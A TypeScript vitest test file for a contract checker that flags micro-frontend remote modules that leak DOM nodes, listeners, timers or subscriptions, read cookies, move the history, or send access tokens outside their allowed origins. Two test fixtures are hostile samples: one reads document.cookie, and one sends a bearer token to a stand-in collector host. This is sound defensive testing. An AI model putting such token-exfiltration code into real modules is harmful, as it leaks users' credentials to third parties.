import type { ManifestEntry } from '@bas/manifest';
import { describe, expect, it } from 'vitest';
import type { RemoteModule } from '../contract.ts';
import { checkRemoteContract, RemoteContractError } from './checkRemoteContract.ts';
import { testEntry } from './testEntry.fixture.ts';

const entry = testEntry();

/** A remote written by hand against the contract: a heading, a window listener and a timer, all cleaned up. */
function wellBehaved(): RemoteModule {
  return {
    mount(element, context) {
      const heading = element.appendChild(document.createElement('h1'));
      heading.textContent = `${context.entry.name.id} (${context.locale.get()})`;
      const onResize = () => undefined;
      window.addEventListener('resize', onResize);
      const timer = setInterval(() => undefined, 1000);
      const stop = context.locale.subscribe(() => undefined);
      return () => {
        stop();
        clearInterval(timer);
        window.removeEventListener('resize', onResize);
        element.replaceChildren();
      };
    },
  };
}

async function problemsOf(module: unknown): Promise<readonly string[]> {
  try {
    await checkRemoteContract(module, { entry, expectText: 'Pengumuman' });
    return [];
  } catch (error) {
    if (error instanceof RemoteContractError) return error.problems;
    throw error;
  }
}

describe('checkRemoteContract', () => {
  it('passes a remote that cleans up after itself', async () => {
    await expect(
      checkRemoteContract(wellBehaved(), { entry, expectText: 'Pengumuman Kota Bogor (id)' }),
    ).resolves.toBeUndefined();
  });

  it('refuses a module without mount', async () => {
    expect(await problemsOf({ default: () => null })).toEqual([
      expect.stringContaining('has no mount(element, context) function'),
    ]);
  });

  it('names each thing a leaky remote leaves behind', async () => {
    const leaky: RemoteModule = {
      mount(element, context) {
        element.innerHTML = '<h1>Pengumuman</h1>';
        window.addEventListener('resize', () => undefined);
        setInterval(() => undefined, 1000);
        context.auth.subscribe(() => undefined);
        return () => undefined;
      },
    };
    const problems = await problemsOf(leaky);
    expect(problems).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/unmount left 1 node/),
        expect.stringMatching(/1 subscription\(s\) to the context are still active/),
        expect.stringMatching(/1 timer\(s\) still pending/),
        expect.stringMatching(/listeners still attached after unmount \('resize' on window\)/),
      ]),
    );
  });

  it('refuses a remote that moves the history or reads cookies around the SDK', async () => {
    const bypassing: RemoteModule = {
      mount(element) {
        element.textContent = `Pengumuman ${document.cookie}`;
        window.history.pushState(null, '', '/elsewhere');
        return () => element.replaceChildren();
      },
    };
    expect(await problemsOf(bypassing)).toEqual([
      expect.stringContaining('read document.cookie'),
      expect.stringContaining('called history.pushState'),
    ]);
  });

  it('flags a remote that sends its token outside its apiOrigins, and passes one that keeps to them', async () => {
    const user = { username: 'warga', name: 'Siti', roles: ['warga'] };
    const calling = (url: string): RemoteModule => ({
      mount(element, context) {
        element.textContent = 'Pengumuman';
        void context.auth
          .getAccessToken()
          .then((token) =>
            fetch(url, { headers: { authorization: `Bearer ${token ?? ''}` } }).catch(() => undefined),
          );
        return () => element.replaceChildren();
      },
    });
    const check = (module: RemoteModule, apiOrigins: string[]) =>
      checkRemoteContract(module, {
        entry: { ...entry, apiOrigins } as ManifestEntry,
        user,
        expectText: 'Pengumuman',
      }).then(
        () => [],
        (error: RemoteContractError) => error.problems,
      );
    expect(await check(calling('https://pengumpul.example/curi'), ['https://api.kotabogor.go.id'])).toEqual([
      expect.stringContaining(
        'sent its access token to https://pengumpul.example, outside its apiOrigins (https://api.kotabogor.go.id)',
      ),
    ]);
    expect(
      await check(calling('https://api.kotabogor.go.id/pengumuman'), ['https://api.kotabogor.go.id']),
    ).toEqual([]);
  });

  it('says when nothing renders', async () => {
    const silent: RemoteModule = { mount: () => () => undefined };
    const check = checkRemoteContract(silent, { entry, timeoutMs: 50 });
    await expect(check).rejects.toBeInstanceOf(RemoteContractError);
    const problems = await check.catch((error: RemoteContractError) => error.problems);
    expect(problems).toContain('visit 1: nothing was rendered within 50 ms');
  });
});
